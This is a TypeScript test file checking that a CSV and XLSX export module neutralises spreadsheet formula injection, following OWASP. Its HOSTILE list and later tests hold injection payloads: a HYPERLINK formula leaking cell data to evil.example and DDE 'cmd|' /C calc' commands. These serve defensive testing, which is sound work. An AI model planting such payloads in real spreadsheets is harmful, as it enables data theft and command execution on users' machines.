import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { neutralizeCsvCell, restoreCsvCell, writeCsv } from './exchange.csv.ts';
import { toCsv, toXlsx } from './exchange.export.ts';
import { parseFile } from './exchange.parse.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
  "=cmd|' /C calc'!A0",
  '+62 812 3456 7890',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
  "''+twice",
];

describe('CSV formula neutralisation (OWASP CSV injection)', () => {
  it.each(HOSTILE)('puts a quote before %j', (value) => {
    expect(neutralizeCsvCell(value)).toBe(`'${value}`);
  });

  it.each(['Budi Santoso', "O'Neil", "'apostrophe first", '05.01', '197503152000031002', '', 'a=b', ' =x'])(
    'leaves %j as it is',
    (value) => {
      expect(neutralizeCsvCell(value)).toBe(value);
      expect(restoreCsvCell(value)).toBe(value);
    },
  );

  it('restores exactly what it neutralised, for any text', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'grapheme' }),
        fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', "'", "''="),
        (s, p) => {
          const value = p + s;
          expect(restoreCsvCell(neutralizeCsvCell(value))).toBe(value);
        },
      ),
      { seed: 20260801, numRuns: 500 },
    );
  });

  it('writes neutralised cells quoted, numbers as numbers, empty for null', () => {
    const text = writeCsv(['NAMA', 'KELAS', 'X'], [["=cmd|' /C calc'!A0", -5, null]]).toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text).toBe(`\uFEFFNAMA,KELAS,X\n"'=cmd|' /C calc'!A0",-5,\n`);
  });

  it('never lets a written cell start with a formula character, and reads back what was written', () => {
    const rows = HOSTILE.map((h, i) => [h, i, `${h}${i}`]);
    const buf = writeCsv(['A', 'B', 'C'], rows);
    const records: string[][] = parse(buf.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true });
    for (const record of records) for (const c of record) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    expect(records.slice(1).map((r) => r.map(restoreCsvCell))).toEqual(rows.map((r) => r.map(String)));
  });

  it('an exported CSV of hostile names imports back to the same names', () => {
    const names = ['=HYPERLINK("http://evil.example","klik")', "=cmd|' /C calc'!A0", '@SUM(A1)', "'=kutip"];
    const csv = toCsv(
      'unor',
      names.map((n, i) => ({ UNOR_KODE: `U${i}`, UNOR_NAMA: n, UNOR_INDUK_KODE: null, JENIS_UNOR: 'LAINNYA' })),
    );
    const parsed = parseFile(csv, { fileName: 'unor.csv' });
    expect(parsed.errors).toEqual([]);
    const sheet = parsed.sheets[0];
    const nama = sheet.columns.get('UNOR_NAMA') as number;
    expect(sheet.rows.map((r) => r.cells[nama])).toEqual(names);
  });

  it('XLSX exports keep hostile names as plain string cells, never formulas', async () => {
    const names = ['=HYPERLINK("http://evil.example","klik")', "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@A1'];
    const bytes = await toXlsx([
      {
        entity: 'unor',
        rows: names.map((n, i) => ({ UNOR_KODE: `U${i}`, UNOR_NAMA: n, UNOR_INDUK_KODE: null, JENIS_UNOR: null })),
      },
    ]);
    const files = unzipSync(bytes);
    const sheetXml = Object.entries(files)
      .filter(([name]) => name.startsWith('xl/worksheets/sheet'))
      .map(([, data]) => strFromU8(data))
      .join('');
    expect(sheetXml).not.toMatch(/<f[\s>]/);
    const parsed = parseFile(bytes, { fileName: 'x.xlsx' });
    const sheet = parsed.sheets[0];
    const nama = sheet.columns.get('UNOR_NAMA') as number;
    expect(sheet.rows.map((r) => r.cells[nama])).toEqual(names);
  });
});
